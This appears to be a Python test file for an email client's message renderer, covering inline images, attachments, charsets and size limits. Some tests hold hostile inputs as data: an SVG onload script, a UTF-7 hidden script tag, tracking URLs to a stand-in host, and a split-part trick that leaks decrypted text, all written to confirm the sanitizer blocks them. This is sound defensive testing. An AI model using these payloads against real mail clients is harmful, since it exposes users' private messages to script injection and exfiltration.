"""A message as it is shown, from its octets."""

import base64
import struct
import zlib

from mailstead.mime.showing.image_addresses import ADDRESSES_CHARACTERS_MAX
from mailstead.mime.showing.message import PICTURE_OCTETS_MAX, shown_message
from mailstead.mime.showing.safe_html import Caution, safe_html
from mime.showing.strict import escapes
from mime.showing.test_body_choice import FILE, leaf, multipart


def png(width=1, height=1, more=b""):
    def chunk(kind, octets):
        return struct.pack("!I", len(octets)) + kind + octets + struct.pack("!I", zlib.crc32(kind + octets))

    head = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + more
        + chunk(b"IEND", b"")
    )


def picture(octets, *fields, media_type="image/png"):
    content = base64.encodebytes(octets).decode().replace("\n", "\r\n")
    return leaf(media_type, content, "Content-Transfer-Encoding: base64", *fields)


def address(octets, media_type="image/png"):
    return f"data:{media_type};base64,{base64.b64encode(octets).decode()}"


def related(html, *parts, fields=()):
    return multipart("related", leaf("text/html; charset=utf-8", html, *fields), *parts).encode()


def test_an_enclosed_picture_stands_in_the_page_and_is_no_attachment():
    message = shown_message(related("<img src='cid:a%40x'>", picture(png(), "Content-ID: <a@x>")))
    assert address(png()) in message.bodies[0].html
    assert message.attachments == ()


def test_a_picture_by_its_location():
    """Spec: RFC 2557 §5."""
    html, fields = (
        "<img src='b.png'><p style='background:url(https://x.example/c.png)'>",
        ["Content-Location: https://x.example/dir/a.html"],
    )
    parts = [
        picture(png(2), "Content-Location: https://x.example/dir/b.png"),
        picture(png(3), "Content-Location: ../c.png"),
    ]
    message = shown_message(related(html, *parts, fields=fields))
    assert address(png(2)) in message.bodies[0].html
    assert address(png(3)) in message.bodies[0].html
    assert message.blocked.image_count == 0


def test_a_picture_that_nothing_shows_is_an_attachment():
    message = shown_message(related("<p>x", picture(png(), "Content-ID: <a@x>")))
    assert len(message.attachments) == 1


def test_attack_086_what_is_called_a_picture_and_is_none_is_not_shown():
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    html = "<img src='cid:a'><img src='cid:b'><img src='cid:c'>"
    parts = [
        picture(svg, "Content-ID: <a>"),
        picture(svg, "Content-ID: <b>", media_type="image/svg+xml"),
        picture(png(60_000, 60_000), "Content-ID: <c>"),
    ]
    message = shown_message(related(html, *parts))
    assert "data:" not in message.bodies[0].html
    assert len(message.attachments) == 3


def test_a_picture_is_called_what_it_is():
    message = shown_message(
        related("<img src='cid:a'>", picture(b"GIF89a\1\0\1\0\0\0\0;", "Content-ID: <a>", media_type="image/png"))
    )
    assert "data:image/gif;" in message.bodies[0].html


def test_attack_086_a_picture_named_again_and_again_does_not_fill_the_memory():
    octets = png(more=b"\0" * 1_000_000)
    message = shown_message(related("<img src='cid:a'>" * 5000, picture(octets, "Content-ID: <a>")))
    assert len(message.bodies[0].html) < ADDRESSES_CHARACTERS_MAX + 1_000_000
    assert Caution.CUT in message.cautions
    styles = safe_html("<p style='background:url(cid:a)'>" * 100, embedded=lambda _: address(octets))
    assert len(styles.html) < ADDRESSES_CHARACTERS_MAX + 1_000_000


def test_a_picture_that_is_too_large_is_an_attachment():
    message = shown_message(
        related("<img src='cid:a'>", picture(png(more=b"\0" * PICTURE_OCTETS_MAX), "Content-ID: <a>"))
    )
    assert "data:" not in message.bodies[0].html
    assert len(message.attachments) == 1


def test_bodies_of_a_mixed_message_are_shown_one_below_the_other():
    message = shown_message(multipart("mixed", leaf("text/plain", "one"), FILE, leaf("text/html", "<p>two")).encode())
    assert [body.is_html for body in message.bodies] == [False, True]
    page = message.document("subject")
    assert page.index("one") < page.index("two")
    assert len(message.attachments) == 1


def test_charset_and_encoding_are_undone():
    text = "<p>" + "\u043f\u0440\u0438\u0432\u0435\u0442" + "</p>"
    octets = (
        b"Content-Type: text/html; charset=koi8-r\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(text.encode("koi8-r"))
    )
    assert text in shown_message(octets).bodies[0].html


def test_attack_086_a_charset_that_hides_markup_is_read_before_it_is_made_safe():
    octets = b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>x"
    message = shown_message(octets)
    assert escapes(message.bodies[0].html) == []
    assert "alert" not in message.bodies[0].html


def test_flowed_text_is_joined():
    octets = b"Content-Type: text/plain; format=flowed; delsp=yes\r\n\r\none \r\ntwo\r\n"
    assert "onetwo" in shown_message(octets).bodies[0].html


def test_attack_088_what_was_decrypted_loads_nothing_even_when_asked():
    octets = related(
        "<img src='https://t.example/leak'><p style='background:url(//t.example/leak2)'><img src='cid:a'>",
        picture(png(), "Content-ID: <a>"),
    )
    asked = []
    message = shown_message(octets, remote=lambda url: asked.append(url) or "/proxy", is_decrypted=True)
    assert asked == []
    assert message.has_remote is False
    assert message.blocked.image_count == 2
    assert address(png()) in message.bodies[0].html
    assert shown_message(octets, remote=lambda _: "/proxy").has_remote is True


def test_attack_088_a_part_that_begins_an_address_does_not_enclose_the_next():
    """Direct exfiltration: the text of the second part must not become part of the first one's address."""
    message = multipart(
        "mixed",
        leaf("text/html", '<img src="https://t.example/'),
        leaf("text/plain", "secret"),
        leaf("text/html", '">'),
    )
    found = shown_message(message.encode(), remote=lambda _: "/proxy")
    assert found.loaded_count == 0
    assert "secret" in found.bodies[1].html
    for body in found.bodies:
        assert body.html.count("<div") == body.html.count("</div>")


def test_an_empty_message_shows_nothing():
    message = shown_message(b"")
    assert message.attachments == ()
    assert message.document().startswith("<!DOCTYPE html>")


def test_a_body_that_is_cut_is_said():
    octets = b"Content-Type: text/plain\r\n\r\n" + b"x" * (7 << 20)
    assert Caution.CUT in shown_message(octets).cautions
